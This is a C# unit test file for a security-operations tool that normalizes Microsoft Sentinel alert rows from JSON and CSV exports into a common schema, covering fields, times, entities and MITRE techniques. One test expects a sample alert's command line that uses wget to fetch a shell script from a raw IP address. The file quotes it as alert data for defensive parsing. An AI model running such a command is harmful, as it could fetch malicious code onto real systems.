using System.Globalization;
using System.Text.Json;
using System.Text.Json.Nodes;
using AiSoc.Core.Ingest;
using AiSoc.Core.Normalizers.DefenderForCloud;
using AiSoc.Core.Normalizers.Sentinel;
using AiSoc.Core.Schema;
using AiSoc.Core.Tests.Support;

namespace AiSoc.Core.Tests.Normalizers.Sentinel;

public class SecurityAlertRowNormalizerTests
{
    private const string FileDownloadId = "2518520133657099999_384e00d0-4afc-4e9a-8935-bec64d3951a4";
    private const string SshLoginId = "f1ce87ca-8863-4a66-a0bd-a4d3776a7c64";
    private const string SuspiciousActivityId = "2518520402897969999_b946cd89-667e-4ce7-b571-9603859a7234";
    private const string FusionId = "2518522745615999999_30ac5794-a265-4420-a1b7-6335ac08e2c0";

    private static readonly SecurityAlertRowNormalizer Normalizer = new();
    private static readonly RawRecordRef Raw = new("securityalert.json", 0);

    private static JsonElement[] JsonRows()
    {
        using var document = JsonDocument.Parse(File.ReadAllText(SharedData.PathOf("sentinel/securityalert_msticpy_alerts_list.json")));
        return document.RootElement.EnumerateArray().Select(row => row.Clone()).ToArray();
    }

    private static JsonElement JsonRow(string systemAlertId) =>
        JsonRows().Single(row => row.GetProperty("SystemAlertId").GetString() == systemAlertId);

    private static NormalizedAlert NormalizeRow(string systemAlertId) =>
        Assert.Single(Normalizer.Normalize(JsonRow(systemAlertId), Raw).Alerts);

    private static NormalizedAlert NormalizeJson(string json)
    {
        using var document = JsonDocument.Parse(json);
        return Assert.Single(Normalizer.Normalize(document.RootElement, Raw).Alerts);
    }

    /// <summary>Rewrites a typed row the way a Log Analytics CSV export writes it: every value as text.</summary>
    private static JsonElement AsCsvRow(JsonElement row)
    {
        var csv = new JsonObject();
        foreach (var property in row.EnumerateObject())
        {
            var value = property.Value;
            csv[property.Name] = value.ValueKind switch
            {
                JsonValueKind.String when property.Name.EndsWith("Utc", StringComparison.Ordinal) || property.Name is "TimeGenerated" or "ProcessingEndTime"
                    => value.GetString()!.Replace('T', ' ').Replace(".000", "", StringComparison.Ordinal),
                JsonValueKind.String => value.GetString(),
                JsonValueKind.True => "True",
                JsonValueKind.False => "False",
                JsonValueKind.Null => "",
                _ => value.GetRawText(),
            };
        }

        return JsonDocument.Parse(csv.ToJsonString()).RootElement;
    }

    [Fact]
    public void Normalize_FileDownloadRow_MapsAlertFields()
    {
        var alert = NormalizeRow(FileDownloadId);

        Assert.Equal(SourceProduct.Sentinel, alert.Source);
        Assert.Equal("384e00d0-4afc-4e9a-8935-bec64d3951a4", alert.ProviderAlertId);
        Assert.Equal(StableIds.ForAlert("384e00d0-4afc-4e9a-8935-bec64d3951a4"), alert.Id);
        Assert.Equal("Detected suspicious file download", alert.Title);
        Assert.Equal(Severity.Low, alert.Severity);
        Assert.Equal("SCUBA_RULE_Suspicious_file_download", alert.DetectorId);
        Assert.Null(alert.ProductName);
    }

    [Fact]
    public void Normalize_FileDownloadRow_TimesAreUtc()
    {
        var alert = NormalizeRow(FileDownloadId);

        Assert.Equal(new DateTimeOffset(2019, 2, 16, 3, 24, 4, TimeSpan.Zero), alert.CreatedAt);
        Assert.Equal(new DateTimeOffset(2019, 2, 16, 3, 23, 54, TimeSpan.Zero), alert.FirstActivityAt);
        Assert.Equal(new DateTimeOffset(2019, 2, 16, 3, 23, 54, TimeSpan.Zero), alert.LastActivityAt);
        Assert.Equal(new DateTimeOffset(2019, 2, 16, 3, 24, 4, TimeSpan.Zero), alert.LastUpdatedAt);
        Assert.Equal(TimeSpan.Zero, alert.CreatedAt.Offset);
    }

    [Fact]
    public void Normalize_FileDownloadRow_KeepsExtras()
    {
        var alert = NormalizeRow(FileDownloadId);

        Assert.Equal(FileDownloadId, alert.Extra["SystemAlertId"]);
        Assert.Equal("MSTICALERTSLXVM2", alert.Extra["CompromisedEntity"]);
        Assert.Equal("Detection", alert.Extra["ProviderName"]);
        Assert.Equal("Microsoft", alert.Extra["VendorName"]);
        Assert.Equal("1", alert.Extra["SkippedEntityCount"]);
        Assert.Empty(alert.Warnings);
    }

    [Fact]
    public void Normalize_FileDownloadRow_LinksProcessAndHost()
    {
        var alert = NormalizeRow(FileDownloadId);

        var process = Assert.Single(alert.Entities.OfType<ProcessEntity>(), p => p.ProcessId == "0x4e55");
        Assert.Equal("wget http://13.67.35.176/QuZYpObins.sh -t 3 -T 5", process.CommandLine);
        Assert.Equal("wget", process.ImageFileName);
        Assert.Equal("/usr/bin", process.ImageFilePath);
        Assert.Equal("0x4e4f", process.ParentProcessId);
        var host = Assert.Single(alert.Entities.OfType<HostEntity>());
        Assert.Equal("MSTICALERTSLXVM2", host.HostName);
        Assert.Equal("Linux", host.OsFamily);
        Assert.Equal("/subscriptions/40dcc8bf-0478-4f3b-b275-ed0a94f2c013/resourceGroups/ASIHuntOMSWorkspaceRG/providers/Microsoft.Compute/virtualMachines/MSTICAlertsLxVM2", host.AzureResourceId);
        var resource = Assert.Single(alert.Entities.OfType<AzureResourceEntity>());
        Assert.Equal(EntityRole.Impacted, resource.Role);
    }

    [Fact]
    public void Normalize_FileDownloadRow_LinuxUidIsNotASid()
    {
        var alert = NormalizeRow(FileDownloadId);

        var account = Assert.Single(alert.Entities.OfType<AccountEntity>());
        Assert.Equal("dbadmin", account.Name);
        Assert.Null(account.Sid);
        Assert.Null(account.Upn);
    }

    [Fact]
    public void Normalize_SshLoginRow_MapsRuleAlert()
    {
        var alert = NormalizeRow(SshLoginId);

        Assert.Equal("b0e143b8-4fa8-47bc-8bc1-9780c8b75541", alert.ProviderAlertId);
        Assert.Equal("SSH Anomalous Login ML", alert.Title);
        Assert.Equal("CustomAlertRule_0a4e5f7c-9756-45f8-83c4-94c756844698", alert.DetectorId);
        Assert.Equal("CustomAlertRule", alert.Extra["ProviderName"]);
        Assert.Equal(new DateTimeOffset(2019, 2, 18, 1, 49, 2, TimeSpan.Zero), alert.FirstActivityAt);
        Assert.Equal("23.97.60.214", Assert.Single(alert.Entities.OfType<IpEntity>()).Address);
        Assert.Equal("MSTICAlertsLxVM2", Assert.Single(alert.Entities.OfType<HostEntity>()).HostName);
        Assert.Equal("dbadmin", Assert.Single(alert.Entities.OfType<AccountEntity>()).Name);
        Assert.False(alert.Extra.ContainsKey("CompromisedEntity"));
    }

    [Fact]
    public void Normalize_SuspiciousActivityRow_HostCarriesAzureId()
    {
        var alert = NormalizeRow(SuspiciousActivityId);

        Assert.Equal(Severity.Medium, alert.Severity);
        Assert.Equal("SuspiciousActivity", alert.DetectorId);
        var host = Assert.Single(alert.Entities.OfType<HostEntity>());
        Assert.Equal("msticalertswin1", host.HostName);
        Assert.Equal("/subscriptions/40dcc8bf-0478-4f3b-b275-ed0a94f2c013/resourceGroups/ASIHuntOMSWorkspaceRG/providers/Microsoft.Compute/virtualMachines/MSTICAlertsWin1", host.AzureResourceId);
        var account = Assert.Single(alert.Entities.OfType<AccountEntity>());
        Assert.Equal("ian", account.Name);
        Assert.Equal("msticalertswin1", account.NtDomain);
        Assert.Null(account.Upn);
    }

    [Fact]
    public void Normalize_FusionRow_SkipsAlertEntities()
    {
        var alert = NormalizeRow(FusionId);

        Assert.Equal("KillChainFusionIncident", alert.DetectorId);
        Assert.Equal("true", alert.Extra["IsIncident"]);
        Assert.Equal("3", alert.Extra["SkippedEntityCount"]);
        Assert.Empty(alert.Warnings);
    }

    [Fact]
    public void Normalize_EveryJsonRow_SucceedsAsSentinelAlert()
    {
        var rows = JsonRows();

        var alerts = rows.Select(row => Assert.Single(Normalizer.Normalize(row, Raw).Alerts)).ToList();

        Assert.Equal(25, rows.Length);
        Assert.All(rows, row => Assert.True(Normalizer.CanNormalize(row)));
        Assert.All(alerts, alert => Assert.Equal(SourceProduct.Sentinel, alert.Source));
    }

    [Fact]
    public void Normalize_CsvStyleRow_MatchesTypedRow()
    {
        var typed = NormalizeRow(FileDownloadId);
        var csvRow = AsCsvRow(JsonRow(FileDownloadId));

        var fromCsv = Assert.Single(Normalizer.Normalize(csvRow, Raw).Alerts);

        Assert.True(Normalizer.CanNormalize(csvRow));
        Assert.Equal(typed.ProviderAlertId, fromCsv.ProviderAlertId);
        Assert.Equal(typed.CreatedAt, fromCsv.CreatedAt);
        Assert.Equal(typed.FirstActivityAt, fromCsv.FirstActivityAt);
        Assert.Equal(typed.Entities, fromCsv.Entities);
        Assert.Equal("false", fromCsv.Extra["IsIncident"]);
    }

    [Fact]
    public void Normalize_CsvExportFile_ReadsEveryRow()
    {
        var rows = CsvRows(SharedData.PathOf("sentinel/securityalert_msticpy_alertlist.csv"));

        var alerts = rows.Select(row => Assert.Single(Normalizer.Normalize(row, Raw).Alerts)).ToList();

        Assert.Equal(189, rows.Count);
        Assert.All(rows, row => Assert.True(Normalizer.CanNormalize(row)));
        Assert.DoesNotContain(alerts, alert => alert.Entities.Count == 0 && alert.Warnings.Count > 0);
    }

    [Fact]
    public void Normalize_CsvRegistryRow_MapsRegistryValues()
    {
        var row = CsvRows(SharedData.PathOf("sentinel/securityalert_msticpy_alertlist.csv"))
            .Single(r => r.GetProperty("SystemAlertId").GetString() == "2518547570866947129_1b074412-133c-4ac9-8e3f-24103159b03e");

        var alert = Assert.Single(Normalizer.Normalize(row, Raw).Alerts);

        Assert.Equal("1b074412-133c-4ac9-8e3f-24103159b03e", alert.ProviderAlertId);
        Assert.Equal(new DateTimeOffset(2019, 1, 15, 9, 15, 18, TimeSpan.Zero), alert.CreatedAt);
        var value = Assert.Single(alert.Entities.OfType<RegistryEntity>(), r => r.ValueName == "windowposition");
        Assert.Equal("HKEY_CURRENT_USER", value.Hive);
        Assert.Equal("console", value.Key);
        Assert.Equal("DWord", value.ValueType);
        Assert.Equal(2, alert.Entities.OfType<RegistryEntity>().Count());
        Assert.Equal("S-1-5-21-996632719-2361334927-4038480536-500", Assert.Single(alert.Entities.OfType<AccountEntity>()).Sid);
    }

    [Fact]
    public void Normalize_TechniquesColumnsAndExtendedProperties_AddsTechniques()
    {
        var alert = NormalizeJson("""
            {"SystemAlertId":"a1","AlertName":"Brute force","TimeGenerated":"2024-05-01T10:00:00Z","Type":"SecurityAlert",
             "Tactics":"InitialAccess, CredentialAccess","Techniques":"[\"T1078\",\"T1110\"]",
             "ExtendedProperties":"{\"Techniques\":\"T1110.001 - Password Guessing\",\"Query\":\"T9999 is not read\"}"}
            """);

        Assert.Equal(["InitialAccess", "CredentialAccess"], alert.Tactics);
        Assert.Equal(["T1078", "T1110", "T1110.001"], alert.Techniques);
        Assert.Empty(alert.Warnings);
    }

    [Fact]
    public void Normalize_UnreadableExtendedProperties_WarnsAndKeepsAlert()
    {
        var alert = NormalizeJson("""
            {"SystemAlertId":"a2","AlertName":"x","TimeGenerated":"2024-05-01 10:00:00","Type":"SecurityAlert","ExtendedProperties":"{not json"}
            """);

        Assert.Equal("x", alert.Title);
        Assert.StartsWith("ExtendedProperties: ignored text that is not valid JSON", Assert.Single(alert.Warnings), StringComparison.Ordinal);
    }

    [Fact]
    public void Normalize_ProviderAlertIdColumn_WinsOverSystemId()
    {
        var alert = NormalizeJson("""
            {"SystemAlertId":"sys-1","ProviderAlertId":"da637000000000000000_1","AlertName":"x","TimeGenerated":"2024-05-01T10:00:00Z","TenantId":"t"}
            """);

        Assert.Equal("da637000000000000000_1", alert.ProviderAlertId);
        Assert.Equal("sys-1", alert.Extra["SystemAlertId"]);
        Assert.Equal(alert.CreatedAt, alert.LastUpdatedAt);
    }

    [Fact]
    public void Normalize_NullTextIds_FallBackToSystemAlertId()
    {
        var alert = NormalizeJson("""
            {"SystemAlertId":"sys-2","VendorOriginalId":"null","ProviderAlertId":"","AlertDisplayName":"Display","AlertName":"Name","TimeGenerated":"2024-05-01T10:00:00Z","TenantId":"t"}
            """);

        Assert.Equal("sys-2", alert.ProviderAlertId);
        Assert.Equal("Display", alert.Title);
    }

    [Theory]
    [InlineData("""{"SystemAlertId":"","AlertName":"x","TimeGenerated":"2024-05-01T10:00:00Z"}""", "SystemAlertId")]
    [InlineData("""{"SystemAlertId":"s","AlertName":"null","TimeGenerated":"2024-05-01T10:00:00Z"}""", "AlertDisplayName")]
    [InlineData("""{"SystemAlertId":"s","AlertName":"x","TimeGenerated":""}""", "TimeGenerated")]
    [InlineData("""{"SystemAlertId":"s","AlertName":"x","TimeGenerated":"15.01.2019 09:15"}""", "TimeGenerated")]
    [InlineData("""{"SystemAlertId":"s","AlertName":"x","TimeGenerated":"2024-05-01T10:00:00Z","StartTimeUtc":"yesterday"}""", "StartTimeUtc")]
    public void Normalize_MissingOrInvalidRequiredField_ThrowsNamingField(string json, string field)
    {
        using var document = JsonDocument.Parse(json);

        var error = Assert.Throws<InvalidRecordException>(() => Normalizer.Normalize(document.RootElement, Raw));

        Assert.Equal(field, error.Field);
    }

    [Fact]
    public void Normalize_BadEntity_DropsOnlyThatEntity()
    {
        var alert = NormalizeJson("""
            {"SystemAlertId":"a3","AlertName":"x","TimeGenerated":"2024-05-01T10:00:00Z","TenantId":"t",
             "Entities":"[{\"$id\":\"2\",\"Address\":\"999.1.1.1\",\"Type\":\"ip\"},{\"$id\":\"3\",\"HostName\":\"web01\",\"Type\":\"host\"}]"}
            """);

        Assert.Equal("web01", Assert.IsType<HostEntity>(Assert.Single(alert.Entities)).HostName);
        Assert.Equal("Entities[0]: dropped ip entity, '999.1.1.1' is not an IP address", Assert.Single(alert.Warnings));
    }

    [Theory]
    [InlineData("""{"SystemAlertId":"s","AlertName":"x"}""", true)]
    [InlineData("""{"SystemAlertId":"s","AlertDisplayName":"x","Type":"SecurityAlert","Entities":[]}""", true)]
    [InlineData("""{"SystemAlertId":"s","AlertDisplayName":"x","TenantId":"t","AzureResourceId":"/subscriptions/s"}""", true)]
    [InlineData("""{"SystemAlertId":"s","AlertDisplayName":"x","Entities":[]}""", false)]
    [InlineData("""{"SystemAlertId":"s","AlertDisplayName":"x","AzureResourceId":"/subscriptions/s"}""", false)]
    [InlineData("""{"SystemAlertId":"s","properties":{"alertDisplayName":"x"},"AlertName":"x"}""", false)]
    [InlineData("""{"AlertName":"x","TimeGenerated":"2024-05-01T10:00:00Z"}""", false)]
    [InlineData("""{"SystemAlertId":"s","Title":"x"}""", false)]
    [InlineData("""[1,2]""", false)]
    public void CanNormalize_RecordShape_ClaimsOnlySentinelRows(string json, bool expected)
    {
        using var document = JsonDocument.Parse(json);

        var claimed = Normalizer.CanNormalize(document.RootElement);
        var claimedByExport = new DefenderForCloudExportNormalizer().CanNormalize(document.RootElement);

        Assert.Equal(expected, claimed);
        Assert.False(claimed && claimedByExport);
    }

    private static List<JsonElement> CsvRows(string path)
    {
        using var parser = new Microsoft.VisualBasic.FileIO.TextFieldParser(path) { HasFieldsEnclosedInQuotes = true };
        parser.SetDelimiters(",");
        var header = parser.ReadFields() ?? [];
        var rows = new List<JsonElement>();
        while (parser.ReadFields() is { } fields)
        {
            var row = new JsonObject();
            for (var i = 0; i < header.Length; i++)
            {
                var name = header[i].Length == 0 ? "RowIndex" : header[i];
                row[name] = i < fields.Length ? fields[i] : "";
            }

            rows.Add(JsonDocument.Parse(row.ToJsonString()).RootElement);
        }

        return rows;
    }
}
